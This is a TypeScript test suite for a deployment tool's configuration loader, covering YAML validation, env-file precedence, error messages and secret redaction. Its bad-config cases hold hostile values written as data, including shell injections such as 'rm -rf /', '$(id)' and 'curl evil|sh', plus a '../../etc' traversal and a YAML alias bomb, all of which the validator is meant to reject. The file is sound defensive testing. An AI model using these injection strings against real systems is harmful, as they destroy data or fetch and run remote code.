import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DeployError, ExitCode } from '../../src/errors.js';
import { loadConfig, type LoadOptions } from '../../src/config/load.js';
import { ConfigError, type ConfigProblem } from '../../src/config/problems.js';
import { Redactor } from '../../src/log/redact.js';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const EXAMPLE = join(ROOT, 'config', 'deployment.yml');

const ENV_OK =
  'ENVIRONMENT=staging\nDATABASE_URL=postgres://togather:db-pass-9f8e7d@db:5432/togather\nJWT_SECRET=jwt-0123456789abcdef\n';

const BASE = `app:
  image: ghcr.io/togather/server
environments:
  staging:
    host: staging.togather.example
    env_file: .env.staging
`;

/** a temp dir holding deployment.yml and a private .env.staging */
function workspace(yaml: string | Buffer, envFile: string | null = ENV_OK): string {
  const dir = mkdtempSync(join(tmpdir(), 'config-'));
  writeFileSync(join(dir, 'deployment.yml'), yaml);
  if (envFile !== null) {
    writeFileSync(join(dir, '.env.staging'), envFile);
    chmodSync(join(dir, '.env.staging'), 0o600);
  }
  return dir;
}

function load(dir: string, extra: Partial<LoadOptions> = {}) {
  return loadConfig({
    configPath: 'deployment.yml',
    environment: 'staging',
    redactor: new Redactor(),
    cwd: dir,
    ...extra,
  });
}

function problems(fn: () => unknown): ConfigProblem[] {
  try {
    fn();
  } catch (err) {
    if (err instanceof ConfigError) return err.problems;
    throw err;
  }
  assert.fail('expected a ConfigError');
}

const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

test('the example deployment.yml validates, with the filled-in template of each environment', () => {
  for (const env of ['development', 'staging', 'production']) {
    const template = readFileSync(join(ROOT, 'config', 'environments', `.env.${env}.example`), 'utf8');
    let n = 0;
    const filled = template.replace(/CHANGE_ME/g, () => `secret-${env}-${++n}-x9`);
    const cfg = loadConfig({ configPath: EXAMPLE, environment: env, envFileContent: filled, redactor: new Redactor() });
    assert.equal(cfg.stack, `togather-${env}`);
    assert.equal(cfg.hostPath, `togather/${env}`);
    assert.equal(cfg.envFileSource, 'env-file input');
    assert.equal(cfg.appEnv.ENVIRONMENT, env);
    assert.equal(cfg.appEnv.LOG_FORMAT, 'json'); // from app.env
    assert.deepEqual(cfg.config.app.health.required_checks, ['database', 'migrations']);
    assert.equal(cfg.config.app.health.interval, 500);
    assert.equal(cfg.configDir, join(ROOT, 'config'));
  }
});

test('the example config is safe to copy: notifications off, no watch, the schema default settle', () => {
  const text = readFileSync(EXAMPLE, 'utf8');
  assert.doesNotMatch(text, /^notifications:/m, 'notifications: ships commented out');
  assert.match(text, /^# notifications:\n# {3}webhook:/m, 'the example stays, as comments');
  assert.doesNotMatch(text, /url: https:\/\/ntfy\.sh\//, 'no shared public ntfy topic to copy');
  for (const env of ['development', 'staging', 'production']) {
    const template = readFileSync(join(ROOT, 'config', 'environments', `.env.${env}.example`), 'utf8');
    // the template filled in as the quickstart says: secrets set, optional features left empty
    const filled = template
      .replace(/^(JWT_SECRET|POSTGRES_PASSWORD|ADMIN_PASSWORD|CSRF_KEY)=CHANGE_ME$/gm, '$1=s3cret-value-4f2a')
      .replace(/CHANGE_ME@db/, 's3cret-value-4f2a@db')
      .replace(/=CHANGE_ME$/gm, '=');
    assert.doesNotMatch(template, /^(DEPLOY_WEBHOOK_URL|DEPLOY_WEBHOOK_SECRET|NTFY_URL|NTFY_TOKEN)=/m, env);
    const cfg = loadConfig({ configPath: EXAMPLE, environment: env, envFileContent: filled, redactor: new Redactor() });
    assert.deepEqual(cfg.config.notifications, {});
    assert.equal(cfg.config.deployment.watch.duration, 0);
    assert.equal(cfg.config.deployment.switch_settle, 1000);
  }
});

test('the example config resolves proxy overrides per environment without resetting the other settings', () => {
  const filled = readFileSync(join(ROOT, 'config', 'environments', '.env.development.example'), 'utf8').replace(
    /CHANGE_ME/g,
    'filled-in-1',
  );
  const dev = loadConfig({
    configPath: EXAMPLE,
    environment: 'development',
    envFileContent: filled,
    redactor: new Redactor(),
  });
  assert.equal(dev.proxy.http_port, 8080);
  assert.equal(dev.proxy.https_port, 8443);
  assert.equal(dev.proxy.health_interval, 500); // not reset by the override
  assert.deepEqual(dev.proxy.domains, []);

  const dir = workspace(
    `${BASE}    proxy:\n      domains: [s.example]\nproxy:\n  http_port: 81\n  health_interval: 2s\n`,
  );
  const cfg = load(dir);
  assert.deepEqual(cfg.proxy.domains, ['s.example']);
  assert.equal(cfg.proxy.http_port, 81);
  assert.equal(cfg.proxy.health_interval, 2000);
  assert.equal(cfg.proxy.https_port, 443);
  assert.equal(cfg.envFileSource, '.env.staging');
});

interface BadCase {
  name: string;
  yaml: string | Buffer;
  code: ConfigProblem['code'];
  path: string;
  /** text on the expected line, or a line number */
  at?: string | number;
  remedy: RegExp;
  env?: string;
}

const bad: BadCase[] = [
  {
    name: 'missing app.image',
    yaml: BASE.replace('  image: ghcr.io/togather/server\n', '  port: 8080\n'),
    code: 'required',
    path: 'app.image',
    at: 'app:',
    remedy: /image repository/,
  },
  {
    name: 'bad duration',
    yaml: `${BASE}deployment:\n  drain_timeout: 30 seconds\n`,
    code: 'invalid',
    path: 'deployment.drain_timeout',
    at: 'drain_timeout',
    remedy: /500ms, 2s/,
  },
  {
    name: 'plain number as duration',
    yaml: `${BASE}deployment:\n  drain_timeout: 30\n`,
    code: 'invalid',
    path: 'deployment.drain_timeout',
    at: 'drain_timeout',
    remedy: /unit: 500ms/,
  },
  {
    name: 'unknown key (typo)',
    yaml: BASE.replace('app:\n', 'app:\n  helth:\n    path: /h\n'),
    code: 'unknown-key',
    path: 'app.helth',
    at: 'helth',
    remedy: /did you mean health\?/,
  },
  {
    name: 'unknown key (no close match)',
    yaml: `${BASE}    colour: blue\n`,
    code: 'unknown-key',
    path: 'environments.staging.colour',
    at: 'colour',
    remedy: /known keys here: host, port, user/,
  },
  {
    name: "the reference's deployment.strategy",
    yaml: `${BASE}deployment:\n  strategy: blue-green\n`,
    code: 'unknown-key',
    path: 'deployment.strategy',
    at: 'strategy',
    remedy: /always blue-green/,
  },
  {
    name: 'unknown environment',
    yaml: BASE,
    env: 'prod',
    code: 'unknown-environment',
    path: 'environments',
    at: 'environments:',
    remedy: /one of: staging/,
  },
  {
    name: 'malformed host',
    yaml: BASE.replace('staging.togather.example', '-bad-.example'),
    code: 'invalid',
    path: 'environments.staging.host',
    at: 'host:',
    remedy: /host name or IP/,
  },
  {
    name: 'user@host in host',
    yaml: BASE.replace('staging.togather.example', 'deploy@staging.example'),
    code: 'invalid',
    path: 'environments.staging.host',
    at: 'host:',
    remedy: /user goes in user:/,
  },
  {
    name: 'host with port',
    yaml: BASE.replace('staging.togather.example', 'staging.example:2222'),
    code: 'invalid',
    path: 'environments.staging.host',
    at: 'host:',
    remedy: /port goes in port:/,
  },
  {
    name: 'shell metacharacters in host',
    yaml: BASE.replace('staging.togather.example', '"staging.example;rm -rf /"'),
    code: 'invalid',
    path: 'environments.staging.host',
    at: 'host:',
    remedy: /host name or IP/,
  },
  {
    name: 'shell metacharacters in user',
    yaml: `${BASE}    user: deploy$(id)\n`,
    code: 'invalid',
    path: 'environments.staging.user',
    at: 'user:',
    remedy: /POSIX user name/,
  },
  {
    name: 'shell metacharacters in path',
    yaml: `${BASE}    path: togather/\`reboot\`\n`,
    code: 'invalid',
    path: 'environments.staging.path',
    at: 'path:',
    remedy: /letters, digits/,
  },
  {
    name: 'shell metacharacters in image',
    yaml: BASE.replace('ghcr.io/togather/server', '"ghcr.io/x/y;curl evil|sh"'),
    code: 'invalid',
    path: 'app.image',
    at: 'image:',
    remedy: /image repository without tag/,
  },
  {
    name: 'tag in image',
    yaml: BASE.replace('ghcr.io/togather/server', 'ghcr.io/togather/server:latest'),
    code: 'invalid',
    path: 'app.image',
    at: 'image:',
    remedy: /tag is always the commit SHA/,
  },
  {
    name: '../ in path',
    yaml: `${BASE}    path: ../../etc\n`,
    code: 'invalid',
    path: 'environments.staging.path',
    at: 'path:',
    remedy: /remove "\.\."/,
  },
  {
    name: 'quoted port',
    yaml: `${BASE}    port: "22"\n`,
    code: 'invalid',
    path: 'environments.staging.port',
    at: 'port:',
    remedy: /without quotes/,
  },
  {
    name: 'port out of range',
    yaml: `${BASE}    port: 70000\n`,
    code: 'invalid',
    path: 'environments.staging.port',
    at: 'port:',
    remedy: /≤ 65535/,
  },
  {
    name: 'invalid environment name',
    yaml: `${BASE}  Prod_1:\n    host: p.example\n`,
    code: 'invalid',
    path: 'environments.Prod_1',
    at: 'Prod_1',
    remedy: /lowercase letters/,
  },
  {
    name: 'url that is not a URL',
    yaml: `${BASE}    url: staging.example\n`,
    code: 'invalid',
    path: 'environments.staging.url',
    at: 'url:',
    remedy: /https:\/\//,
  },
  {
    name: 'duplicate YAML key',
    yaml: BASE.replace('    env_file: .env.staging\n', '    env_file: .env.staging\n    host: other.example\n'),
    code: 'duplicate-key',
    path: '',
    at: 'other.example',
    remedy: /keep one/,
  },
  {
    name: 'YAML syntax error',
    yaml: `${BASE}proxy:\n  domains: [a.example\n  bind: 1.2.3.4\n`,
    code: 'yaml',
    path: '',
    remedy: /YAML syntax/,
  },
  {
    name: 'YAML alias bomb',
    yaml:
      `${BASE}x-a: &a [l, l, l, l, l, l, l, l, l]\nx-b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n` +
      'x-c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nx-d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n',
    code: 'alias-bomb',
    path: '',
    remedy: /anchors/,
  },
  {
    name: 'invalid UTF-8',
    yaml: Buffer.concat([Buffer.from(`${BASE}# caf`), Buffer.from([0xe9]), Buffer.from('\n')]),
    code: 'file',
    path: '',
    at: 7,
    remedy: /UTF-8/,
  },
  {
    name: 'a list instead of a mapping',
    yaml: '- app\n- environments\n',
    code: 'not-mapping',
    path: '',
    at: 1,
    remedy: /top-level keys/,
  },
  { name: 'empty file', yaml: '# nothing yet\n', code: 'not-mapping', path: '', remedy: /app:, environments:/ },
  {
    name: 'environment without env file',
    yaml: BASE.replace('    env_file: .env.staging\n', ''),
    code: 'no-env-file',
    path: 'environments.staging',
    at: 'staging:',
    remedy: /env_file: environments\/\.env\.staging/,
  },
  {
    name: 'missing custom Caddyfile',
    yaml: `${BASE}proxy:\n  caddyfile: caddy/Caddyfile\n`,
    code: 'invalid',
    path: 'proxy.caddyfile',
    at: 'caddyfile:',
    remedy: /create it/,
  },
  {
    name: 'wrong type for a section',
    yaml: `${BASE}database: postgres\n`,
    code: 'invalid',
    path: 'database',
    at: 'database:',
    remedy: /mapping/,
  },
  {
    name: 'CHANGE_ME in app.env of deployment.yml',
    yaml: BASE.replace('app:\n', 'app:\n  env:\n    SENTRY_DSN: CHANGE_ME\n'),
    code: 'placeholder',
    path: 'app.env.SENTRY_DSN',
    at: 'SENTRY_DSN',
    remedy: /Sentry/,
  },
];

for (const c of bad) {
  test(`bad config: ${c.name}`, () => {
    const dir = workspace(c.yaml);
    const ps = problems(() => load(dir, c.env ? { environment: c.env } : {}));
    const p = ps.find((x) => x.code === c.code && x.path === c.path);
    assert.ok(p, `no ${c.code} at "${c.path}" among ${JSON.stringify(ps, null, 1)}`);
    assert.equal(p.file, 'deployment.yml');
    if (c.at !== undefined) {
      const want = typeof c.at === 'number' ? c.at : lineOf(c.yaml.toString(), c.at);
      assert.equal(p.line, want, `line of ${c.path}`);
    }
    assert.match(p.remedy ?? '', c.remedy);
    assert.equal(ps.length, 1, `exactly one problem: ${JSON.stringify(ps)}`);
  });
}

test('bad config: a file over 1 MiB is refused unread', () => {
  const dir = workspace(`${BASE}# ${'x'.repeat(1024 * 1024)}\n`);
  const ps = problems(() => load(dir));
  assert.deepEqual(
    ps.map((p) => p.code),
    ['file'],
  );
  assert.match(ps[0]!.message, /at most 1024 KiB/);
});

test('bad config: a missing config file', () => {
  const dir = workspace(BASE);
  const ps = problems(() => load(dir, { configPath: 'nope.yml' }));
  assert.deepEqual(
    ps.map((p) => [p.file, p.code]),
    [['nope.yml', 'file']],
  );
});

test('every problem is reported at once: three errors yield three problems, in line order', () => {
  const yaml = `app:
  image: ghcr.io/togather/server:latest
  health:
    interval: soon
environments:
  staging:
    host: staging.togather.example
    env_file: .env.staging
    user: Root
`;
  const ps = problems(() => load(workspace(yaml)));
  assert.deepEqual(
    ps.map((p) => [p.path, p.line]),
    [
      ['app.image', 2],
      ['app.health.interval', 4],
      ['environments.staging.user', 9],
    ],
  );
});

test('problems of the config file and of the env file come together', () => {
  const yaml = BASE.replace('staging.togather.example', 'bad host');
  const env = 'ENVIRONMENT=production\nDATABASE_URL=postgres://u:p@db/t\nJWT_SECRET=CHANGE_ME\nnot an assignment\n';
  const dir = workspace(yaml, env);
  chmodSync(join(dir, '.env.staging'), 0o644);
  const ps = problems(() => load(dir));
  assert.deepEqual(
    ps.map((p) => `${p.file}:${p.line ?? '-'} ${p.code} ${p.path}`),
    [
      'deployment.yml:5 invalid environments.staging.host',
      '.env.staging:- file-mode ',
      '.env.staging:1 environment-mismatch ENVIRONMENT',
      '.env.staging:3 placeholder JWT_SECRET',
      '.env.staging:4 syntax ',
    ],
  );
  assert.equal(ps[1]!.remedy, 'chmod 600 .env.staging');
});

test('ConfigError is a DeployError of kind config with a readable multi-line message', () => {
  const dir = workspace(`${BASE}    port: 0\n    user: "x y"\n`);
  let err: unknown;
  try {
    load(dir);
  } catch (e) {
    err = e;
  }
  assert.ok(err instanceof ConfigError);
  assert.ok(err instanceof DeployError);
  assert.equal(err.kind, 'config');
  assert.equal(err.exitCode, ExitCode.config);
  const lines = err.message.split('\n');
  assert.equal(lines[0], 'The configuration has 2 problems:');
  assert.equal(lines[1], '  deployment.yml:7 environments.staging.port: 0 is too small — fix: use a number ≥ 1');
  assert.match(
    lines[2]!,
    /^ {2}deployment\.yml:8 environments\.staging\.user: "x y" is not valid — fix: write a POSIX user name/,
  );
});

test('env file source: action input > CLI path > env_file of the environment', () => {
  const dir = workspace(BASE);
  writeFileSync(join(dir, 'cli.env'), ENV_OK.replace('jwt-0123456789abcdef', 'from-cli-path-1'));
  chmodSync(join(dir, 'cli.env'), 0o600);
  assert.equal(load(dir).appEnv.JWT_SECRET, 'jwt-0123456789abcdef');
  const cli = load(dir, { envFilePath: 'cli.env' });
  assert.equal(cli.appEnv.JWT_SECRET, 'from-cli-path-1');
  assert.equal(cli.envFileSource, 'cli.env');
  const input = load(dir, {
    envFilePath: 'cli.env',
    envFileContent: ENV_OK.replace('jwt-0123456789abcdef', 'from-input-1'),
  });
  assert.equal(input.appEnv.JWT_SECRET, 'from-input-1');
  assert.equal(input.envFileSource, 'env-file input');
  // an empty action input means "not given"
  assert.equal(load(dir, { envFileContent: '' }).appEnv.JWT_SECRET, 'jwt-0123456789abcdef');
});

test('env_file is resolved relative to the config file, not the working directory', () => {
  const dir = workspace('');
  mkdirSync(join(dir, 'config', 'environments'), { recursive: true });
  writeFileSync(join(dir, 'config', 'deployment.yml'), BASE.replace('.env.staging', 'environments/.env.staging'));
  writeFileSync(join(dir, 'config', 'environments', '.env.staging'), ENV_OK, { mode: 0o600 });
  const cfg = load(dir, { configPath: 'config/deployment.yml' });
  assert.equal(cfg.envFileSource, join('config', 'environments', '.env.staging'));
  assert.equal(cfg.configPath, 'config/deployment.yml');
});

test('app environment precedence: overrides > process env (declared keys only) > env file > app.env', () => {
  const yaml = BASE.replace('app:\n', 'app:\n  env:\n    LOG_LEVEL: info\n    FEATURE_X: "off"\n    TZ: UTC\n');
  const env = `${ENV_OK}LOG_LEVEL=debug\nSMTP_PASSWORD=smtp-from-file\n`;
  const cfg = load(workspace(yaml, env), {
    processEnv: {
      SMTP_PASSWORD: 'smtp-from-process',
      FEATURE_X: 'on',
      TZ: '', // empty: does not blank the setting
      HOME: '/home/runner', // undeclared: never pulled in
      GITHUB_TOKEN: 'ghs_secret',
    },
    overrides: { LOG_LEVEL: 'warn', EXTRA: 'added-by-set' },
  });
  assert.deepEqual(cfg.appEnv, {
    LOG_LEVEL: 'warn', // override beats env file beats app.env
    FEATURE_X: 'on', // process env beats app.env
    TZ: 'UTC',
    ENVIRONMENT: 'staging',
    DATABASE_URL: 'postgres://togather:db-pass-9f8e7d@db:5432/togather',
    JWT_SECRET: 'jwt-0123456789abcdef',
    SMTP_PASSWORD: 'smtp-from-process', // process env beats env file
    EXTRA: 'added-by-set', // overrides may add keys
  });
});

test('a stronger source may replace a placeholder of the env file; a placeholder that stays is refused', () => {
  const env = `${ENV_OK}SMTP_PASSWORD=CHANGE_ME\n`;
  const dir = workspace(BASE, env);
  assert.equal(load(dir, { processEnv: { SMTP_PASSWORD: 'real-smtp-pw' } }).appEnv.SMTP_PASSWORD, 'real-smtp-pw');
  assert.equal(load(dir, { overrides: { SMTP_PASSWORD: 'real-smtp-pw' } }).appEnv.SMTP_PASSWORD, 'real-smtp-pw');
  const ps = problems(() => load(dir));
  assert.deepEqual(
    ps.map((p) => [p.code, p.line]),
    [['placeholder', 4]],
  );
  const ps2 = problems(() => load(dir, { overrides: { JWT_SECRET: 'CHANGE_ME', 'BAD-KEY': 'x', NL: 'a\nb' } }));
  assert.deepEqual(ps2.map((p) => `${p.file} ${p.code} ${p.path}`).sort(), [
    '.env.staging placeholder SMTP_PASSWORD',
    'override (--set) bad-character NL',
    'override (--set) placeholder JWT_SECRET',
    'override (--set) syntax BAD-KEY',
  ]);
});

test('required keys and the ENVIRONMENT guard apply to the final app environment', () => {
  const dir = workspace(BASE, 'ENVIRONMENT=production\nJWT_SECRET=jwt-0123456789\n');
  const ps = problems(() => load(dir));
  assert.deepEqual(
    ps.map((p) => `${p.code} ${p.path} ${p.line ?? '-'}`),
    ['required DATABASE_URL -', 'environment-mismatch ENVIRONMENT 1'],
  );
  // an override can correct both
  const cfg = load(dir, { overrides: { ENVIRONMENT: 'staging', DATABASE_URL: 'postgres://u:pw-from-set@db/t' } });
  assert.equal(cfg.appEnv.ENVIRONMENT, 'staging');
  // and required_env is configurable
  const custom = workspace(
    BASE.replace('app:\n', 'app:\n  required_env: [JWT_SECRET, CSRF_KEY]\n'),
    'JWT_SECRET=j-123456\n',
  );
  assert.deepEqual(
    problems(() => load(custom)).map((p) => `${p.code} ${p.path}`),
    ['required CSRF_KEY'],
  );
});

test('secrets of the app environment are registered with the redactor; public keys are not', () => {
  const redactor = new Redactor();
  const sunk: string[] = [];
  redactor.setSink((s) => sunk.push(s));
  const env = `${ENV_OK}LOG_LEVEL=info\nADMIN_PASSWORD=admin-pw-77\nEMAIL_ENABLED=false\nSMTP_PORT=587\n`;
  load(workspace(BASE, env), { redactor, overrides: { CSRF_KEY: 'csrf-key-from-set' } });
  const out = redactor.redact(
    'connect postgres://togather:db-pass-9f8e7d@db:5432/togather; pw db-pass-9f8e7d; jwt jwt-0123456789abcdef; ' +
      'admin admin-pw-77; csrf csrf-key-from-set; level info; env staging',
  );
  assert.equal(out, 'connect ***; pw ***; jwt ***; admin ***; csrf ***; level info; env staging');
  assert.ok(sunk.includes('db-pass-9f8e7d'), 'the password inside DATABASE_URL is registered on its own');
  assert.ok(!sunk.includes('staging') && !sunk.includes('info'));
  // flags and small numbers are never masked: "false" inside JSON would break every serialized document
  assert.equal(redactor.redact('{"dry_run":false,"port":587}'), '{"dry_run":false,"port":587}');
});

test('the database password is masked even when DATABASE_URL is public and the password is URL-encoded', () => {
  const redactor = new Redactor();
  const yaml = BASE.replace('app:\n', 'app:\n  public_env: [ENVIRONMENT, DATABASE_URL]\n');
  const env = ENV_OK.replace('db-pass-9f8e7d', 'p%40ss%2Fw0rd');
  load(workspace(yaml, env), { redactor });
  assert.equal(redactor.redact('pw p@ss/w0rd and p%40ss%2Fw0rd'), 'pw *** and ***');
});

test('secrets are registered even when loading fails', () => {
  const redactor = new Redactor();
  problems(() => load(workspace(BASE.replace('staging.togather.example', 'bad host')), { redactor }));
  assert.equal(redactor.redact('jwt-0123456789abcdef'), '***');
});

test('loading touches nothing: x- keys may hold shared anchors', () => {
  const yaml = `x-common: &common
  user: deploy
  port: 2222
${BASE.replace('    host: staging.togather.example\n', '    <<: *common\n    host: staging.togather.example\n')}`;
  const cfg = load(workspace(yaml));
  assert.equal(cfg.env.port, 2222);
  assert.equal(cfg.env.user, 'deploy');
});

test('merge keys: a problem inside merged anchors still gets a line', () => {
  const yaml = `x-common: &common
  user: "no good"
${BASE.replace('    host: staging.togather.example\n', '    <<: *common\n    host: staging.togather.example\n')}`;
  const ps = problems(() => load(workspace(yaml)));
  assert.deepEqual(
    ps.map((p) => [p.path, p.line]),
    [['environments.staging.user', 2]],
  );
});

test('deployment.schema.json is up to date with the zod schema (gen-schemas --check)', () => {
  const r = spawnSync(process.execPath, ['--import', 'tsx', join(ROOT, 'scripts', 'gen-schemas.ts'), '--check'], {
    cwd: ROOT,
    encoding: 'utf8',
  });
  assert.equal(r.status, 0, r.stderr);
  const schema = JSON.parse(readFileSync(join(ROOT, 'config', 'deployment.schema.json'), 'utf8')) as Record<
    string,
    unknown
  >;
  assert.deepEqual(schema.required, ['app', 'environments']);
  assert.match(readFileSync(EXAMPLE, 'utf8'), /^# yaml-language-server: \$schema=deployment\.schema\.json$/m);
});
